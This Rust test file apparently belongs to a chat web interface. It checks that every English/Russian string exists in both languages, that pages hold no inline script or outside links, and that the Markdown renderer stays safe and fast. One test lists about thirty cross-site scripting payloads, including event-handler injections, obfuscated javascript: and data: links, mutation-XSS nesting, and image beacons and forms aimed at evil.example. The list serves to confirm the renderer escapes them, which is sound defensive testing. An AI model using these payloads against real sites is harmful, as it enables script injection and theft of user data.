//! What holds for all files of the pages, and for hostile Markdown.
#![allow(clippy::unwrap_used, reason = "a failed expectation is a failed test")]

use super::files::{FILES, PAGES, compose};
use super::markdown::render;
use regex::Regex;
use serde_json::{Map, Value};
use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;

/// Key → its two texts, of one `strings.js`.
fn strings(name: &str, content: &str) -> BTreeMap<String, [String; 2]> {
    let json = content
        .trim()
        .strip_prefix("export default ")
        .unwrap_or_else(|| panic!("{name}: `export default {{`"));
    let table: Map<String, Value> = serde_json::from_str(json.trim_end_matches(';'))
        .unwrap_or_else(|error| panic!("{name} is not strict JSON: {error}"));
    let texts = |key: &str, value: Value| {
        serde_json::from_value(value)
            .unwrap_or_else(|error| panic!("{name}: {key}: [English, Russian]: {error}"))
    };
    table.into_iter().map(|(key, value)| (key.clone(), texts(&key, value))).collect()
}

fn all_strings() -> BTreeMap<String, [String; 2]> {
    let tables = FILES.iter().filter(|(name, _)| name.ends_with("/strings.js"));
    let mut all = BTreeMap::new();
    for (name, content) in tables {
        let space = format!("{}.", name.split('/').next().unwrap());
        for (key, texts) in strings(name, content) {
            assert!(key.starts_with(&space), "{name}: {key} must begin with {space}");
            all.insert(key, texts);
        }
    }
    all
}

#[test]
fn every_text_is_there_in_both_languages_and_names_the_same_values() {
    let placeholder = Regex::new(r"\{\w+\}").unwrap();
    let values = |text: &str| -> BTreeSet<String> {
        placeholder.find_iter(text).map(|found| found.as_str().to_string()).collect()
    };
    for (key, [english, russian]) in all_strings() {
        assert!(!english.trim().is_empty() && !russian.trim().is_empty(), "{key} is empty");
        assert_eq!(values(&english), values(&russian), "{key}");
        let cyrillic =
            |text: &str| text.chars().any(|c| ('а'..='я').contains(&c.to_lowercase().next().unwrap_or(c)));
        assert!(!cyrillic(&english), "{key}: the English text holds Cyrillic");
    }
}

#[test]
fn every_key_that_is_used_exists_and_every_key_is_used() {
    let known = all_strings();
    let spaces: BTreeSet<&str> = FILES.iter().map(|(name, _)| name.split('/').next().unwrap()).collect();
    let spaces = spaces.into_iter().collect::<Vec<_>>().join("|");
    let key = Regex::new(&format!(r#""((?:{spaces})\.[a-zA-Z][\w.-]*)""#)).unwrap();
    let mut sources: Vec<(&str, String)> = PAGES.iter().map(|page| (page.address, compose(page))).collect();
    sources.extend(
        FILES.iter().filter(|(name, _)| !name.ends_with("strings.js")).map(|(n, c)| (*n, c.to_string())),
    );
    let mut used = BTreeSet::new();
    for (name, content) in &sources {
        for found in key.captures_iter(content).map(|found| found[1].to_string()) {
            assert!(known.contains_key(&found), "{name} uses {found}, which no strings.js has");
            used.insert(found);
        }
    }
    let unused: Vec<_> = known.keys().filter(|key| !used.contains(*key)).collect();
    assert!(unused.is_empty(), "no page uses {unused:?}");
}

#[test]
fn every_file_of_the_pages_is_embedded() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("pages");
    for folder in std::fs::read_dir(&root).unwrap().map(|entry| entry.unwrap().path()) {
        for file in std::fs::read_dir(&folder).unwrap().map(|entry| entry.unwrap().path()) {
            let name = file.strip_prefix(&root).unwrap().to_str().unwrap().replace('\\', "/");
            let fragment = name.ends_with(".html");
            assert!(
                fragment || FILES.iter().any(|(known, _)| *known == name),
                "{name} is missing from FILES"
            );
        }
    }
}

/// The policy forbids inline script and style; nothing may lean on them, or on another host.
#[test]
fn pages_hold_nothing_inline_and_nothing_from_elsewhere() {
    let inline = Regex::new(r#"(?i)<style|\sstyle=|\son[a-z]+="|javascript:"#).unwrap();
    let script = Regex::new(r"(?i)<script[^>]*>").unwrap();
    for page in PAGES {
        let html = compose(page);
        assert!(!html.contains("{{"), "{}: a slot is left", page.address);
        assert!(!inline.is_match(&html), "{}: {:?}", page.address, inline.find(&html));
        for tag in script.find_iter(&html) {
            assert!(tag.as_str().contains("src=\"/assets/"), "{}: {}", page.address, tag.as_str());
        }
    }
    let elsewhere = Regex::new(r"(?:https?:)?//[a-z0-9-]+\.[a-z]").unwrap();
    let namespace = "http://www.w3.org/2000/svg";
    for (name, content) in FILES {
        let content = content.replace(namespace, "");
        assert!(!elsewhere.is_match(&content), "{name}: {:?}", elsewhere.find(&content));
    }
}

#[test]
fn html_goes_in_at_one_place_only() {
    let sinks = Regex::new(r"innerHTML|outerHTML\s*=|insertAdjacentHTML|document\.write|\beval\(|new Function|srcdoc|DOMParser|setHTML")
        .unwrap();
    for (name, content) in FILES {
        let found = sinks.find_iter(content).count();
        assert_eq!(found, usize::from(*name == "shell/dom.js"), "{name}");
    }
}

#[test]
fn markdown_that_models_write() {
    for (text, expected) in [
        ("**Да**, *нет*", "<p><strong>Да</strong>, <em>нет</em></p>\n"),
        ("one\ntwo", "<p>one<br>\ntwo</p>\n"),
        ("```rust\nfn a() {}\n```", "<pre><code class=\"language-rust\">fn a() {}\n</code></pre>\n"),
        ("```c++\nx\n```", "<pre><code class=\"language-c++\">x\n</code></pre>\n"),
        ("3. three", "<ol start=\"3\">\n<li>three</li>\n</ol>\n"),
        ("~~old~~", "<p><del>old</del></p>\n"),
        (
            "|a|b|\n|-|-|\n|1|2|",
            "<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody>\n<tr><td>1</td><td>2</td></tr>\n</tbody></table>\n",
        ),
        (
            "|a|b|\n|:-:|-:|\n|1|2|",
            "<table><thead><tr><th class=\"center\">a</th><th class=\"right\">b</th></tr></thead><tbody>\n\
             <tr><td class=\"center\">1</td><td class=\"right\">2</td></tr>\n</tbody></table>\n",
        ),
        (
            "[site](https://example.org \"t\")",
            "<p><a href=\"https://example.org\" title=\"t\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">site</a></p>\n",
        ),
        // Half of a block while it streams.
        ("```py\nprint(", "<pre><code class=\"language-py\">print(</code></pre>\n"),
        ("Если a < b && c > d", "<p>Если a &lt; b &amp;&amp; c &gt; d</p>\n"),
    ] {
        assert_eq!(render(text), expected, "{text}");
    }
}

#[test]
fn hostile_markdown_is_inert() {
    let hostile = [
        "<script>alert(1)</script>",
        "text <img src=x onerror=alert(1)> more",
        "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
        "<iframe src=//evil.example></iframe>",
        "<style>*{display:none}</style>",
        "<form action=//evil.example><input name=body></form>",
        "<a href=\"javascript:alert(1)\" id=main>x</a>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java&#10;script:alert(1))",
        "[x](&#x6A;avascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](vbscript:msgbox)",
        "<javascript:alert(1)>",
        "[x](/v1/unload_lora_adapter)",
        "![x](https://evil.example/steal?q=1)",
        "![x](javascript:alert(1))",
        "[![x](https://evil.example/a.png)](https://evil.example)",
        "[x]: javascript:alert(1)\n\n[x]",
        "[x](https://ok.example \"\\\" onmouseover=alert(1) \\\"\")",
        "```\"><script>alert(1)</script>\ncode\n```",
        "```x\" onmouseover=\"alert(1)\ncode\n```",
        "</code></pre></article></main><script>alert(1)</script>",
        "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<x-t onclick=alert(1) style=position:fixed class=dialog>",
        "|<b>|\n|-|\n|<img src=x onerror=alert(1)>|",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
    ];
    // Every tag and attribute that may be there; anything else has come from the text.
    let tag = Regex::new(r#"<(/?)([a-zA-Z][^\s/>]*)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*>"#).unwrap();
    let attribute = Regex::new(r#"([^\s=]+)="([^"]*)""#).unwrap();
    let allowed = [
        "a",
        "blockquote",
        "br",
        "code",
        "del",
        "em",
        "li",
        "ol",
        "p",
        "pre",
        "strong",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
    ];
    for text in hostile {
        let html = render(text);
        for found in tag.captures_iter(&html) {
            assert!(allowed.contains(&&found[2]), "{text} → {html}");
            for pair in attribute.captures_iter(&found[3]) {
                let fine = match &pair[1] {
                    "href" => pair[2].starts_with("https://"),
                    "class" => pair[2].starts_with("language-"),
                    "target" | "rel" | "title" | "start" => true,
                    _ => false,
                };
                assert!(fine, "{text} → {html}");
            }
        }
        // Nothing that looks like a tag escaped the pattern above.
        assert_eq!(html.matches('<').count(), tag.find_iter(&html).count(), "{text} → {html}");
    }
    assert_eq!(render("<script>alert(1)</script>"), "&lt;script&gt;alert(1)&lt;/script&gt;");
}

/// Nesting must not cost the square of its depth: the page renders while a reply streams.
#[test]
fn deep_and_long_markdown_is_rendered_in_time() {
    assert_eq!(
        render("> > *a*"),
        "<blockquote>\n<blockquote>\n<p><em>a</em></p>\n</blockquote>\n</blockquote>\n"
    );
    assert!(render(&format!("{}deep", "> ".repeat(1000))).contains("deep"));
    let started = std::time::Instant::now();
    for text in [
        "> ".repeat(20_000),
        "[".repeat(50_000),
        "*_".repeat(50_000),
        "- ".repeat(20_000),
        "<a ".repeat(20_000),
    ] {
        render(&text);
    }
    assert!(started.elapsed().as_secs() < 2, "{:?}", started.elapsed());
}
